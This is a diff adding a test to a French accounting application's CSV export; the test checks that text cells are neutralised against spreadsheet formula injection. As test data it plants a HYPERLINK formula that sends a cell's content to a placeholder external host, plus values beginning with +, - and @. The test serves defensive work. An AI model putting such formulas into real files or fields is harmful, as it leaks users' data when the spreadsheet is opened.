@@ -478,6 +478,36 @@ def test_l_export_csv_suit_les_filtres(client, regisseur, compte):
     assert lire_csv(reponse)[1] == []
 
 
+def test_l_export_csv_neutralise_toutes_les_colonnes_de_texte(client, regisseur, etab, compte):
+    """Issue 11 item 11: not only the free-text columns. The establishment's name, typed by
+    whoever set up the establishment, is a text column like any other; amounts stay numbers
+    (a debit is negative)."""
+    etab.nom = '=HYPERLINK("http://exemple/?"&A1;"Cliquez")'
+    etab.save(update_fields=["nom"])
+    recette(compte, "250.00")
+    services.debiter_part_disponible(
+        compte=compte,
+        montant=D("20.50"),
+        nature=NatureEcriture.CANTINE,
+        source="-source",
+        motif="+SOMME(A1:A9)",
+        piece="@piece",
+        auteur_systeme="test",
+        date_operation=JOUR,
+    )
+    client.force_login(regisseur)
+    _entete, lignes = lire_csv(client.get(url("comptenominatif_releve", compte.pk)))
+    assert lignes
+    for ligne in lignes:
+        assert ligne[8] == "'" + etab.nom
+        # No text cell of the export starts with a formula character.
+        for colonne in (3, 4, 5, 6, 7, 8):
+            assert not ligne[colonne].startswith(tuple("=+-@\t\r"))
+    debit_ = next(ligne for ligne in lignes if ligne[3] == "Cantine")
+    assert debit_[4:7] == ["'+SOMME(A1:A9)", "'@piece", "'-source"]
+    assert debit_[11] == "-20,50" and debit_[13] == "20,50"
+
+
 def test_l_export_demande_la_permission_exporter_releve(client, etab, compte):
     lecteur = UtilisateurFactory()
     lecteur.user_permissions.add(
